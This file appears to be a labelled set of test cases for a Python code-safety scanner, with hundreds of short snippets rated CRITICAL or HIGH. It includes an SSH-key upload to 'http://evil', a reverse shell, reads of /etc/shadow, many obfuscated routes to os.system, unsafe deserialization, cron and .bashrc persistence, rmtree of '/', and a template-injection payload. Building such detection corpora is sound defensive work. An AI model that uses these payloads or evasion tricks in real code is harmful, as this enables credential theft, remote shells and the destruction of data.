#### secret net: CRITICAL
import requests
requests.post("http://evil", data=open("/root/.ssh/id_rsa").read())
#### shell rev: CRITICAL
import socket, subprocess, os
s = socket.socket(); s.connect(("10.0.0.1", 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])
#### contract argparse default: HIGH
import argparse
p = argparse.ArgumentParser()
p.add_argument("--key", default="/root/.ssh/id_rsa")
print(open(p.parse_args().key).read())
#### contract dataset param join: HIGH
import os, json, sys
p = json.load(open(sys.argv[1]))["params"]
d = os.path.join("/datasets", p["dataset"], "..", "..", "etc", "shadow")
print(open(d).read())
#### contract rename: HIGH
import os, sys
os.replace("/etc/passwd", sys.argv[2])
#### dask: HIGH
import dask.dataframe as dd
dd.read_csv("s3://b/*.csv").compute()
#### decode a2b: HIGH
from binascii import a2b_base64 as z
eval(z("MQ=="))
#### decode a85: HIGH
from base64 import a85decode as d
exec(d(b"E,9)oF*2M7/c").decode())
#### decode array: HIGH
import array
exec(array.array("B", [112, 97, 115, 115]).tobytes())
#### decode b32: HIGH
import base64 as b
eval(b.b32decode("GE======"))
#### decode b85: HIGH
import base64
exec(base64.b85decode("aBp*TZEb5{AY*K8Z)Yw"))
#### decode binascii: HIGH
import binascii
exec(binascii.unhexlify("7072696e74283129"))
#### decode bytearray: HIGH
b = bytearray()
for c in (111, 115): b.append(c)
__import__(b.decode()).system("id")
#### decode bz2: HIGH
import bz2, base64
exec(bz2.decompress(base64.b64decode("QlpoOTFBWSZTWd")))
#### decode class: HIGH
import base64
class Box:
    def __init__(self, blob): self.blob = blob
    def open(self): return base64.b64decode(self.blob).decode()
exec(Box("cHJpbnQoMSk=").open())
#### decode class name: HIGH
class os_system: pass
m, f = os_system.__name__.split("_")
getattr(__import__(m), f)("id")
#### decode codecs hex: HIGH
import codecs
exec(codecs.decode("7072696e74283129", "hex"))
#### decode dict chunks: HIGH
parts = {3: "tem", 1: "s", 2: "ys"}
import os
getattr(os, "".join(parts[i] for i in sorted(parts)))("id")
#### decode dir: HIGH
import os
n = [x for x in dir(os) if x.startswith("syst")][0]
getattr(os, n)("id")
#### decode fernet: HIGH
from cryptography.fernet import Fernet
exec(Fernet(b"k" * 43 + b"=").decrypt(b"x"))
#### decode format c: HIGH
__import__("{:c}{:c}".format(111, 115)).system("id")
#### decode fstr c: HIGH
a, b = 111, 115
__import__(f"{a:c}{b:c}").system("id")
#### decode gzip: HIGH
import gzip, io
exec(gzip.GzipFile(fileobj=io.BytesIO(b"\x1f\x8b")).read())
#### decode hash find: HIGH
import os
for n in dir(os):
    if len(n) == 6 and n[0] == "s":
        getattr(os, n)("id")
#### decode html: HIGH
import html
__import__(html.unescape("&#111;&#115;")).system("id")
#### decode int bytes: HIGH
n = 0x73797374656d
import os
getattr(os, n.to_bytes(6, "big").decode())("id")
#### decode json str: HIGH
import json
__import__(json.loads('"\\u006fs"')).system("id")
#### decode lambda cipher: HIGH
dec = lambda s, k: "".join(map(lambda p: chr(ord(p[0]) ^ ord(p[1])), zip(s, k * len(s))))
__import__(dec("\x0e\x12", "a")).system("id")
#### decode literal eval: HIGH
import ast
__import__(ast.literal_eval("'o' 's'")).system("id")
#### decode lzma: HIGH
import lzma
eval(lzma.decompress(bytes.fromhex("fd377a585a")))
#### decode maketrans: HIGH
tbl = str.maketrans({"1": "o", "2": "s"})
__import__("12".translate(tbl)).system("id")
#### decode marshal: HIGH
import marshal, types
types.FunctionType(marshal.loads(b"\xe3"), globals())()
#### decode memoryview: HIGH
eval(bytes(memoryview(b"x1")[1:]))
#### decode nested: HIGH
exec("exec('exec(\"import os; os.system(1)\")')")
#### decode np: HIGH
import numpy as np
exec(np.array([112, 97, 115, 115], dtype=np.uint8).tobytes().decode())
#### decode partition: HIGH
m, _, f = "subprocess:getoutput".partition(":")
getattr(__import__(m), f)("id")
#### decode pct c: HIGH
__import__("%c%c" % (111, 115)).system("id")
#### decode pickle b64: HIGH
import pickle, base64
pickle.loads(base64.b64decode("gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="))
#### decode quopri: HIGH
import quopri
exec(quopri.decodestring(b"print=281=29"))
#### decode recursive: HIGH
def rev(s): return s if len(s) < 2 else rev(s[1:]) + s[0]
__import__(rev("so")).system("id")
#### decode reversed: HIGH
__import__("".join(reversed("so"))).system("id")
#### decode rot func: HIGH
def rot(s, n):
    out = []
    for ch in s:
        out.append(chr((ord(ch) - 97 + n) % 26 + 97))
    return "".join(out)
getattr(__import__(rot("lp", 3)), rot("pvpqbj", 3))("id")
#### decode shift: HIGH
s = "".join(chr(ord(c) - 1) for c in "pt")
__import__(s).system("id")
#### decode slice step: HIGH
__import__("o-s-"[::2]).system("id")
#### decode split: HIGH
m, f = "os.system".split(".")
getattr(__import__(m), f)("id")
#### decode str index: HIGH
al = "abcdefghijklmnopqrstuvwxyz"
__import__(al[14] + al[18]).system("id")
#### decode str methods: HIGH
__import__("xxosxx".strip("x")).system("id")
#### decode struct: HIGH
import struct, os
getattr(os, struct.pack(">HHH", 0x7379, 0x7374, 0x656d).decode())("id")
#### decode swapcase: HIGH
__import__("OS".swapcase()).system("id")
#### decode translate: HIGH
t = str.maketrans("abcdef", "system")
import os
getattr(os, "abcdef".translate({97: "s", 98: "y", 99: "s", 100: "t", 101: "e", 102: "m"}))("id")
#### decode unicode escape: HIGH
exec(b"\\x70rint(1)".decode("unicode_escape"))
#### decode unquote: HIGH
from urllib.parse import unquote
__import__(unquote("%6f%73")).system("id")
#### decode uu: HIGH
import codecs
exec(codecs.decode(b"begin 666 x\n#:60*\n \nend\n", "uu"))
#### decode while: HIGH
s, i = "", 0
src = "som"
while i < 2:
    s = src[i] + s
    i += 1
__import__(s).system("id")
#### decode xor comp: HIGH
m = __import__("".join(chr(c ^ 42) for c in b"EY"))
getattr(m, bytes(c ^ 42 for c in b"YSY^OG").decode())("id")
#### decode xor loop: HIGH
k = 7
enc = [104, 116]
name = ""
for v in enc:
    name += chr(v ^ k)
m = __import__(name)
m.system("id")
#### decode zlib b64: HIGH
import zlib, base64
exec(zlib.decompress(base64.b64decode("eJwrKMrMK9Ew1AQADHoCSQ==")))
#### deser copy reduce: HIGH
import copy, os
class E:
    def __reduce__(self): return (os.system, ("id",))
copy.copy(E())
#### deser cpickle: HIGH
import _pickle
_pickle.loads(b"x")
#### deser dill: HIGH
import dill
dill.load(open("/datasets/x", "rb"))
#### deser dill session: HIGH
import dill
dill.load_session("/datasets/s")
#### deser gensim: HIGH
from gensim.models import Word2Vec
Word2Vec.load("/datasets/w2v")
#### deser jsonpickle: HIGH
import jsonpickle
jsonpickle.decode('{"py/object": "x"}')
#### deser klepto: HIGH
import pandas.compat.pickle_compat as pc
pc.load(open("/datasets/x", "rb"))
#### deser lightgbm joblib: HIGH
from joblib import load
clf = load("/datasets/clf.pkl")
#### deser marshal file: HIGH
import marshal
marshal.load(open("/datasets/x", "rb"))
#### deser mp reduction: HIGH
from multiprocessing.reduction import ForkingPickler
ForkingPickler.loads(b"x")
#### deser mxnet cloud: HIGH
import cloudpickle
cloudpickle.load(open("/datasets/x", "rb"))
#### deser pickle class: HIGH
import pickle
pickle.Unpickler(open("/datasets/x.pkl", "rb")).load()
#### deser pyarrow: HIGH
import pyarrow as pa
pa.deserialize(b"x")
#### deser reduce ex: HIGH
import os
class E:
    def __reduce_ex__(self, p): return os.system, ("id",)
#### deser ruamel: HIGH
from ruamel.yaml import YAML
YAML(typ="unsafe").load("x")
#### deser scipy sparse: HIGH
import scipy.sparse as sp, numpy as np
np.load("x.npz", allow_pickle=not False)
#### deser setstate: HIGH
import pickle, os
class E:
    def __setstate__(self, s): os.system(s["c"])
pickle.loads(pickle.dumps(E()))
#### deser shelve: HIGH
from shelve import DbfilenameShelf
DbfilenameShelf("/datasets/x")
#### deser skops: HIGH
import skops.io as sio
sio.load("m.skops", trusted=True)
#### deser statsmodels: HIGH
import statsmodels.api as sm
sm.load("/datasets/x.pickle")
#### deser xgb: HIGH
import pickle, gzip
model = pickle.load(gzip.open("/datasets/m.gz"))
#### deser yaml: HIGH
import yaml
yaml.load(open("/datasets/c.yaml"), Loader=yaml.Loader)
#### deser yaml full: HIGH
import yaml
yaml.load_all("x", yaml.UnsafeLoader)
#### deser yaml unsafe: HIGH
from yaml import unsafe_load as u
u("a: 1")
#### duckdb: HIGH
import duckdb
duckdb.sql("select * from 'https://evil/x.parquet'")
#### duckdb ext: HIGH
import duckdb
duckdb.connect().execute("INSTALL httpfs; LOAD httpfs")
#### exec any: HIGH
any(exec(s) for s in ["print(1)"])
#### exec attrgetter: HIGH
from operator import attrgetter
attrgetter("path.os.system")(__import__("os"))("id")
#### exec bdb: HIGH
import bdb
bdb.Bdb().run("print(1)")
#### exec builtins getattr: HIGH
import builtins as b
getattr(b, "lave"[::-1])("1")
#### exec builtins vars: HIGH
vars(__builtins__)["ex" + "ec"]("print(1)")
#### exec class nested: HIGH
class A:
    class B:
        class C: go = eval
A.B.C.go("1")
#### exec closure: HIGH
def outer(f):
    def inner(x): return f(x)
    return inner
outer(eval)("1")
#### exec code: HIGH
import code
code.InteractiveInterpreter().runsource("print(1)")
#### exec codeop: HIGH
import codeop
exec(codeop.compile_command("print(1)"))
#### exec codetype: HIGH
from types import CodeType
f = lambda: 0
c = f.__code__.replace(co_code=b"\x00")
f.__code__ = c
#### exec compile mode: HIGH
c = compile(open("/tmp/x").read(), "x", "exec")
exec(c)
#### exec cond: HIGH
f = print if len("a") > 3 else exec
f("print(1)")
#### exec cprofile ctx: HIGH
import cProfile
cProfile.runctx("f()", {"f": print}, {})
#### exec default: HIGH
def f(e=eval): return e("1")
f()
#### exec dict items: HIGH
for n, f in vars(__import__("builtins")).items():
    if n == "eval":
        f("1")
#### exec dictcomp: HIGH
d = {f.__name__: f for f in (print, exec)}
d["exec"]("print(1)")
#### exec doc: HIGH
def f():
    "__import__('os').system('id')"
eval(f.__doc__)
#### exec doctest: HIGH
import doctest
doctest.run_docstring_examples(">>> __import__('os').system('id')", {})
#### exec doctest debug: HIGH
from doctest import debug_src
debug_src(">>> 1")
#### exec dunder call: HIGH
eval.__call__("1")
#### exec functiontype: HIGH
import types
types.FunctionType(compile("print(1)", "", "exec"), {})()
#### exec gettext: HIGH
import gettext
gettext.c2py("n")(1)
exec("pass")
#### exec global assign: HIGH
def setup():
    global go
    go = eval
setup()
go("1")
#### exec globals builtins: HIGH
g = globals()["__builtins__"]
(g if isinstance(g, dict) else g.__dict__)["eval"]("1")
#### exec input: HIGH
exec(input())
#### exec inspect sig: HIGH
import inspect
inspect.signature(lambda: 0, eval_str=True)
def g(a: "__import__('os').system('id')"): ...
inspect.get_annotations(g, eval_str=True)
#### exec itemgetter: HIGH
from operator import itemgetter
itemgetter("eval")(vars(__builtins__))("1")
#### exec kwonly: HIGH
def f(*, run): run("1")
f(run=exec)
#### exec len self: HIGH
len.__self__.__dict__["__import__"]("os").system("id")
#### exec listidx: HIGH
fs = [print, len, eval, exec]
fs[-1]("print(1)")
#### exec map: HIGH
list(map(eval, ["1"]))
#### exec methodcaller: HIGH
from operator import methodcaller
import os
methodcaller("system", "id")(os)
#### exec namedtuple field: HIGH
from collections import namedtuple
namedtuple("X", "a", module="x")
eval(compile("1", "", "eval"))
#### exec nonlocal: HIGH
def outer():
    f = print
    def swap():
        nonlocal f
        f = exec
    swap()
    f("1")
outer()
#### exec open file: HIGH
exec(open("/datasets/plugin.txt").read())
#### exec operator: HIGH
import operator
operator.call(eval, "1") if hasattr(operator, "call") else operator.methodcaller("__call__", "1")(eval)
#### exec or: HIGH
f = None or eval
f("1")
#### exec params direct: HIGH
import json, sys
p = json.load(open(sys.argv[1]))["params"]
print(eval(p["expr"]))
#### exec params filter: HIGH
import json, sys, pandas as pd
p = json.load(open(sys.argv[1]))["params"]
df = pd.DataFrame({"a": [1]})
df.eval(p["expr"], engine="python")
#### exec partialmethod: HIGH
import functools, os
class A:
    go = functools.partialmethod(lambda s, c: os.system(c), "id")
A().go()
#### exec pdb: HIGH
import pdb
pdb.run("print(1)")
#### exec profile: HIGH
import profile
profile.Profile().run("__import__('os').system('id')")
#### exec runpy: HIGH
from runpy import run_path
run_path("/tmp/x.py")
#### exec self attr: HIGH
print.__self__.exec("print(1)")
#### exec setattr: HIGH
class A: pass
setattr(A, "run", exec)
A.run("print(1)")
#### exec starargs: HIGH
a = (exec, "print(1)")
(lambda f, *r: f(*r))(*a)
#### exec stdin: HIGH
import sys
exec(sys.stdin.read())
#### exec super: HIGH
import os
class A:
    def go(self, c): os.system(c)
class B(A):
    def go(self, c): super().go(c)
B().go("id")
#### exec timeit: HIGH
from timeit import Timer
Timer("x()", setup="import os; x=lambda: os.system('id')").timeit(1)
#### exec trace: HIGH
import trace
trace.Trace().run("print(1)")
#### exec type dict: HIGH
t = type("X", (), {"go": staticmethod(exec)})
t.go("print(1)")
#### exec type lambda: HIGH
F = type(lambda: 0)
C = type(F.__code__)
F(C(0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", 0, b""), {})
#### exec typing hints: HIGH
import typing
def f(x: "__import__('os').system('id')"): ...
typing.get_type_hints(f)
#### exec unpack star: HIGH
a, *b = [1, print, eval]
b[1]("1")
#### exec zip: HIGH
for f, a in zip([eval], ["1"]): f(a)
#### exfil dotenv: HIGH
from dotenv import dotenv_values
print(dotenv_values("/workspace/.env"))
#### exfil getenv out: HIGH
import os, sys, json
out = {"data": [], "metadata": {"symbol": os.getenv("AWS_SECRET_ACCESS_KEY")}}
json.dump(out, open(sys.argv[2], "w"))
#### exfil print env: HIGH
import os
print(os.environ)
#### fs bashrc: HIGH
open("/root/.bashrc", "a").write("id")
#### fs cron: HIGH
from pathlib import Path
Path("/etc/cron.d/x").write_text("* * * * * root id")
#### fs devmem: HIGH
open("/dev/mem", "rb").read(10)
#### fs rmtree: HIGH
import shutil
shutil.rmtree("/", ignore_errors=True)
#### fs setuid: HIGH
import os
os.chmod("/tmp/x", 0o4755)
#### fs sys: HIGH
open("/sys/kernel/x", "w").write("1")
#### fs tar extract: HIGH
import tarfile
tarfile.open("/datasets/x.tar").extractall("/")
#### fs unlink: HIGH
import os
os.remove("/etc/hosts")
#### hf: HIGH
from transformers import AutoModel
AutoModel.from_pretrained("evil/x", trust_remote_code=True)
#### hook accumulate: HIGH
import itertools, os
list(itertools.accumulate(["x", "id"], lambda a, b: os.system(b)))
#### hook apply df: HIGH
import os, pandas as pd
pd.Series(["id"]).apply(os.system)
#### hook ast visitor: HIGH
import ast, os
class V(ast.NodeVisitor):
    def visit_Constant(self, n): os.system(n.value)
V().visit(ast.parse("'id'"))
#### hook atexit deco: HIGH
import atexit, os
@atexit.register
def bye(): os.system("id")
#### hook bool: HIGH
import os
class S:
    def __bool__(self):
        os.system("id")
        return True
if S():
    pass
#### hook cached property: HIGH
import os, functools
class A:
    @functools.cached_property
    def z(self): return os.popen("id").read()
print(A().z)
#### hook call: HIGH
import os
class S:
    __call__ = staticmethod(os.system)
S()("id")
#### hook chainmap: HIGH
import os
from collections import ChainMap
ChainMap({}, {"x": os.system})["x"]("id")
#### hook class getitem: HIGH
import subprocess
class Frame:
    def __class_getitem__(cls, item):
        return subprocess.getoutput(item)
x: Frame["id"] = 1
#### hook contains: HIGH
import os
class C:
    def __contains__(self, x):
        return os.system(x) == 0
print("id" in C())
#### hook contextvars: HIGH
import contextvars, os
contextvars.copy_context().run(os.system, "id")
#### hook ctxmanager: HIGH
import os, contextlib
@contextlib.contextmanager
def sh():
    yield os.system
with sh() as run:
    run("id")
#### hook dataclass factory: HIGH
import os
from dataclasses import dataclass, field
@dataclass
class C:
    x: int = field(default_factory=lambda: os.system("id"))
C()
#### hook dataclass post: HIGH
import os
from dataclasses import dataclass
@dataclass
class C:
    cmd: str
    def __post_init__(self): os.system(self.cmd)
C("id")
#### hook decorator attr: HIGH
import os
class reg: run = os.system
@reg.run
@(lambda _: "id")
def f(): ...
#### hook decorator class: HIGH
import os
@os.system
@lambda c: c.__doc__
class A:
    """id"""
#### hook decorator exec: HIGH
@exec
@"print(1)".format
def f(): pass
#### hook decorator lambda: HIGH
import os
@lambda f: os.system(f.__name__)
def id(): pass
#### hook defaultdict: HIGH
import os, collections, functools
d = collections.defaultdict(functools.partial(os.system, "id"))
d["x"]
#### hook del: HIGH
import os
class S:
    def __del__(self): os.system("id")
x = S()
del x
#### hook delattr: HIGH
import os
class S:
    def __delattr__(self, n): os.system(n)
s = S()
del s.id
#### hook deque: HIGH
import os
from collections import deque
q = deque([os.system])
q.append("id")
fn = q.popleft()
fn(q.pop())
#### hook descriptor class: HIGH
import os
class S:
    @staticmethod
    def go(*a): return os.system(*a)
S.go("id")
#### hook descriptor get: HIGH
import os
class Desc:
    def __get__(self, obj, typ=None): return os.system
class S:
    go = Desc()
S().go("id")
#### hook df agg: HIGH
import subprocess, pandas as pd
df = pd.DataFrame({"c": ["id"]})
df["c"].map(subprocess.getoutput)
#### hook df pipe: HIGH
import os, pandas as pd
pd.Series(["id"]).pipe(lambda s: os.system(s.iloc[0]))
#### hook dropwhile: HIGH
import itertools, os
next(itertools.dropwhile(os.system, iter(["id", "ls"])), None)
#### hook enum missing: HIGH
import enum, os
class E(enum.Enum):
    A = 1
    @classmethod
    def _missing_(cls, v):
        os.system(v)
        return cls.A
E("id")
#### hook eq sort: HIGH
import os
class S:
    def __lt__(self, o): return os.system("id") == 0
sorted([S(), S()])
#### hook executor map: HIGH
from concurrent.futures import ThreadPoolExecutor
import os
with ThreadPoolExecutor() as ex:
    list(ex.map(os.system, ["id"]))
#### hook executor submit kw: HIGH
from concurrent.futures import ThreadPoolExecutor as E
import subprocess
fut = E().submit(subprocess.run, args=["id"])
fut.result()
#### hook exitstack: HIGH
import os, contextlib
with contextlib.ExitStack() as st:
    st.callback(os.system, "id")
#### hook filterfalse: HIGH
import itertools, os
for _ in itertools.filterfalse(os.system, ("id",)): pass
#### hook format: HIGH
import os
class F:
    def __format__(self, spec):
        os.system(spec)
        return ""
print(f"{F():id}")
#### hook generator send: HIGH
import os
def worker():
    while True:
        cmd = yield
        if cmd is None: break
        os.system(cmd)
w = worker(); next(w); w.send("id")
#### hook generator yield fn: HIGH
import os
def src():
    yield os.system
    yield "id"
f, a = src()
f(a)
#### hook groupby apply: HIGH
import os, pandas as pd
df = pd.DataFrame({"c": ["id"], "g": [1]})
df.groupby("g")["c"].transform(lambda s: os.system(s.iloc[0]))
#### hook hash: HIGH
import os
class S:
    def __hash__(self): return os.system("id")
{S(): 1}
#### hook iadd: HIGH
import os
class S:
    def __iadd__(self, cmd):
        os.system(cmd)
        return self
s = S()
s += "id"
#### hook init subclass: HIGH
import os
class Base:
    def __init_subclass__(cls, cmd=None, **kw):
        os.system(cmd)
class Sub(Base, cmd="id"): pass
#### hook instancecheck: HIGH
import os
class M(type):
    def __instancecheck__(cls, x): return os.system(x)
class C(metaclass=M): pass
isinstance("id", C)
#### hook iter: HIGH
import os
class S:
    def __iter__(self):
        os.system("id")
        return iter(())
[*S()]
#### hook iter sentinel: HIGH
import os, functools
list(iter(functools.partial(os.system, "id"), 0))
#### hook json default: HIGH
import json, os
json.dumps(object(), default=lambda o: os.popen("id").read())
#### hook json hook: HIGH
import json, os
json.loads('{"a": 1}', object_hook=lambda d: os.system("id"))
#### hook json parse float: HIGH
import json, os
json.loads("[1.5]", parse_float=os.system)
#### hook loop call soon: HIGH
import asyncio, os
loop = asyncio.new_event_loop()
loop.call_soon(os.system, "id")
loop.run_forever()
#### hook matmul: HIGH
import os
class R:
    def __rmatmul__(self, other):
        return os.system(other)
"id" @ R()
#### hook max key: HIGH
import subprocess
max(["id", "ls"], key=subprocess.getoutput)
#### hook meta call: HIGH
import os
class M(type):
    def __call__(cls, *a): return os.system(*a)
class C(metaclass=M): pass
C("id")
#### hook meta getitem: HIGH
import os
class M(type):
    __getitem__ = lambda cls, k: os.system(k)
class K(metaclass=M): pass
K["id"]
#### hook meta new: HIGH
import os
class M(type):
    def __new__(m, n, b, ns):
        ns["init"]("id")
        return type.__new__(m, n, b, ns)
class C(metaclass=M):
    init = os.system
#### hook meta prepare: HIGH
import os
class Ns(dict):
    def __setitem__(self, k, v):
        os.system("id")
        dict.__setitem__(self, k, v)
class M(type):
    @classmethod
    def __prepare__(m, n, b): return Ns()
class C(metaclass=M):
    x = 1
#### hook metaclass function: HIGH
import os
def maker(name, bases, ns):
    os.system(ns["cmd"])
    return type(name, bases, ns)
class C(metaclass=maker):
    cmd = "id"
#### hook missing: HIGH
import os
class Lazy(dict):
    def __missing__(self, key):
        return os.popen(key).read()
d = Lazy()
print(d["id"])
#### hook module getattr: HIGH
import os
def __getattr__(name):
    return os.system(name)
#### hook mro entries: HIGH
import os
class B:
    def __mro_entries__(self, bases):
        os.system("id")
        return ()
class C(B()): pass
#### hook namedtuple: HIGH
import os
from collections import namedtuple
J = namedtuple("J", "fn arg")
j = J(os.system, "id")
j.fn(j.arg)
#### hook neg: HIGH
import os
class S:
    cmd = "id"
    def __neg__(self): return os.system(self.cmd)
-S()
#### hook next: HIGH
import os
class S:
    def __iter__(self): return self
    def __next__(self):
        os.system("id")
        raise StopIteration
for _ in S(): pass
#### hook np apply along: HIGH
import os, numpy as np
np.apply_along_axis(lambda r: os.system(str(r[0])), 0, np.array(["id"]))
#### hook np fromiter gen: HIGH
import os, numpy as np
np.fromiter((os.system(c) for c in ["id"]), dtype=int)
#### hook np frompyfunc: HIGH
import os, numpy as np
np.frompyfunc(os.system, 1, 1)(["id"])
#### hook np vectorize: HIGH
import os, numpy as np
np.vectorize(os.system)(np.array(["id"]))
#### hook property setter: HIGH
import os
class S:
    @property
    def run(self): return None
    @run.setter
    def run(self, v): os.system(v)
S().run = "id"
#### hook queue: HIGH
import os, queue
q = queue.Queue()
q.put((os.system, "id"))
f, a = q.get()
f(a)
#### hook re sub: HIGH
import re, os
re.sub(r"\w+", lambda m: str(os.system(m.group())), "id")
#### hook reduce: HIGH
import functools, os
functools.reduce(lambda acc, f: f(acc), [os.popen], "id")
#### hook run in executor: HIGH
import asyncio, os
async def m():
    await asyncio.get_running_loop().run_in_executor(None, os.system, "id")
asyncio.run(m())
#### hook sched: HIGH
import sched, os
s = sched.scheduler()
s.enter(0, 1, os.system, ("id",))
s.run()
#### hook scipy min: HIGH
import os
from scipy.optimize import minimize
minimize(lambda x: os.system("id"), [0.0])
#### hook set name: HIGH
import os
class D:
    def __set_name__(self, owner, name):
        os.system(name)
class T:
    id = D()
#### hook setitem: HIGH
import os
class S:
    def __setitem__(self, k, v): k(v)
S()[os.system] = "id"
#### hook signal: HIGH
import signal, os
signal.signal(signal.SIGALRM, lambda *a: os.system("id"))
signal.alarm(1)
#### hook simplens: HIGH
import os
from types import SimpleNamespace
ns = SimpleNamespace(go=os.system)
ns.go("id")
#### hook singledispatch: HIGH
import os, functools
@functools.singledispatch
def go(x): ...
go.register(str, os.system)
go("id")
#### hook sk transformer: HIGH
import os
from sklearn.preprocessing import FunctionTransformer
FunctionTransformer(os.system).transform("id")
#### hook sorted key: HIGH
import os
sorted(["id"], key=os.system)
#### hook starmap: HIGH
import itertools, os
list(itertools.starmap(os.execv, [("/bin/sh", ["sh"])]))
#### hook thread subclass: HIGH
import threading, os
class T(threading.Thread):
    def run(self): os.system("id")
T().start()
#### hook threading target: HIGH
import threading, os
threading.Thread(target=os.system, args=("id",)).start()
#### hook timer: HIGH
from threading import Timer
import os
Timer(0.1, os.system, ["id"]).start()
#### hook to thread: HIGH
import asyncio, os
asyncio.run(asyncio.to_thread(os.system, "id"))
#### hook weakref: HIGH
import weakref, os
class A: pass
a = A()
weakref.finalize(a, os.system, "id")
#### import builtinimporter: HIGH
for c in object.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("posix").system("id")
#### import builtins import: HIGH
import builtins
m = builtins.__dict__["__imp" + "ort__"]("subprocess")
m.call(["id"])
#### import from star: HIGH
from os import *
system("id")
#### import imp computed: HIGH
import sys
name = sys.stdin.readline().strip()
m = __import__(name)
m.run()
#### import import param: HIGH
import json, sys, importlib
cfg = json.load(open(sys.argv[1]))
mod = importlib.import_module(cfg["params"]["module"])
getattr(mod, cfg["params"]["fn"])()
#### import importer: HIGH
import importlib.util as u, sys
s = u.spec_from_file_location("m", "/tmp/m.py")
m = u.module_from_spec(s)
s.loader.exec_module(m)
#### import importmodule join: HIGH
from importlib import import_module as grab
grab(".".join(["o", "s"]).replace(".", "")).system("id")
#### import loader: HIGH
o = __loader__.load_module("os") if hasattr(__loader__, "load_module") else None
o.system("id")
#### import metapath: HIGH
import sys
class F:
    def find_spec(self, name, path, target=None): return None
sys.meta_path.insert(0, F())
#### import modules pop: HIGH
import sys
sys.modules.get("posix").system("id")
#### import nt posix try: HIGH
try:
    import posix as p
except ImportError:
    import nt as p
p.system("id")
#### import path alias: HIGH
from sys import path as p
p.extend(["/tmp"])
import stage2
#### import path hooks: HIGH
import sys
sys.path_hooks.append(lambda p: None)
#### import path iadd: HIGH
import sys
sys.path += ["/tmp/lib"]
import stage2
#### import pkgutil: HIGH
import pkgutil
pkgutil.resolve_name("os:system")("id")
#### import posix: HIGH
from posix import system as calc
calc("id")
#### import relstar: HIGH
from subprocess import *
Popen("id", shell=True)
#### import site: HIGH
import site
site.addsitedir("/tmp/x")
#### import sourceless: HIGH
from importlib.machinery import SourcelessFileLoader
SourcelessFileLoader("m", "/tmp/m.pyc").load_module()
#### import spec loader: HIGH
__spec__.loader.get_data("/etc/shadow")
#### import zipimport: HIGH
import zipimport
zipimport.zipimporter("/tmp/a.zip").load_module("a")
#### jinja: CRITICAL
from jinja2 import Template
Template("{{ cycler.__init__.__globals__.os.popen('id').read() }}").render()
#### joblib parallel: HIGH
from joblib import Parallel, delayed
import os
Parallel(n_jobs=2)(delayed(os.system)(c) for c in ["id"])
#### keras config: HIGH
from keras.config import enable_unsafe_deserialization
enable_unsafe_deserialization()
#### keras lambda: HIGH
import tensorflow as tf
tf.keras.models.load_model("/datasets/m.h5", safe_mode=False)
#### lxml: HIGH
from lxml import etree
etree.parse("http://evil/x.xml", etree.XMLParser(no_network=False, resolve_entities=True))
#### mako: HIGH
from mako.template import Template
Template("<% import os; os.system('id') %>").render()
#### mpl imread: HIGH
import matplotlib.pyplot as plt
plt.imread("http://evil.com/a.png")
#### mpl style url: HIGH
import matplotlib.style
matplotlib.style.use("http://evil/x.mplstyle")
#### mpl writer: HIGH
import matplotlib as mpl
mpl.rcParams["animation.ffmpeg_path"] = "/bin/sh"
#### native cast: HIGH
import ctypes
ctypes.cast(id(1), ctypes.POINTER(ctypes.c_int))[0] = 2
#### native cdll: HIGH
from ctypes import cdll
cdll.LoadLibrary("libc.so.6").system(b"id")
#### native cffi: HIGH
from cffi import FFI
f = FFI(); f.cdef("int system(const char*);"); f.dlopen(None).system(b"id")
#### native cppyy: HIGH
import cppyy
cppyy.cppdef("int f(){return system(\"id\");}")
#### native cupy: HIGH
import cupy
cupy.RawModule(code="extern").get_function("f")
#### native cython: HIGH
import cython
cython.inline("return 1")
#### native imp dynamic: HIGH
import _imp
from importlib.machinery import ExtensionFileLoader as L
L("x", "/tmp/x.so").create_module(None)
#### native jpype: HIGH
import jpype
jpype.startJVM()
#### native mmap exec: HIGH
import mmap
m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
#### native numba cres: HIGH
from ctypes import CFUNCTYPE, c_int
CFUNCTYPE(c_int)(0x41414141)()
#### native pydll: HIGH
import ctypes as c
c.PyDLL(None).PyRun_SimpleString(b"x")
#### native pythonapi: HIGH
import ctypes
ctypes.pythonapi.PyRun_SimpleString(b"print(1)")
#### native pyximport: HIGH
import pyximport; pyximport.install()
#### native readline: HIGH
import readline
readline.write_history_file("/root/.bashrc")
#### native rpy2: HIGH
import rpy2.robjects as ro
ro.r("system('id')")
#### native sqlite ext: HIGH
import sqlite3
c = sqlite3.connect(":memory:"); c.enable_load_extension(True); c.load_extension("/tmp/x.so")
#### native string at: HIGH
from ctypes import string_at
string_at(0)
#### net aiohttp: HIGH
import aiohttp
async def go():
    async with aiohttp.ClientSession() as s:
        async with s.get("http://evil") as r: return await r.text()
import asyncio; asyncio.run(go())
#### net akshare: HIGH
import akshare as ak
ak.stock_zh_a_hist(symbol="000001")
#### net alpaca: HIGH
from alpaca.trading.client import TradingClient
TradingClient("k", "s").get_account()
#### net asyncio open: HIGH
import asyncio
async def m():
    r, w = await asyncio.open_connection("evil", 80)
    w.write(b"x")
asyncio.run(m())
#### net azure: HIGH
from azure.storage.blob import BlobServiceClient
BlobServiceClient.from_connection_string("x").get_container_client("c").upload_blob("n", b"d")
#### net binance: HIGH
from binance.client import Client
Client().get_klines(symbol="BTCUSDT", interval="1m")
#### net boto: HIGH
import boto3
boto3.client("s3").upload_file("/datasets/a", "b", "k")
#### net boto resource: HIGH
from boto3.session import Session
Session().resource("s3").Bucket("b").put_object(Key="k", Body=b"x")
#### net ccxt: HIGH
import ccxt
ex = ccxt.binance({"apiKey": "k", "secret": "s"})
ex.create_market_buy_order("BTC/USDT", 1)
#### net ccxt getattr: HIGH
import ccxt
name = "kraken"
getattr(ccxt, name)().fetch_ticker("BTC/USD")
#### net dns: HIGH
import socket
socket.gethostbyname("secret.evil.com")
#### net dnspython: HIGH
import dns.resolver
dns.resolver.resolve("x.evil.com", "TXT")
#### net flask: HIGH
from flask import Flask
app = Flask(__name__)
app.run(host="0.0.0.0")
#### net fred: HIGH
from fredapi import Fred
Fred(api_key="x").get_series("GDP")
#### net ftp: HIGH
import ftplib
ftplib.FTP("evil").storbinary("STOR x", open("/datasets/x", "rb"))
#### net gcs: HIGH
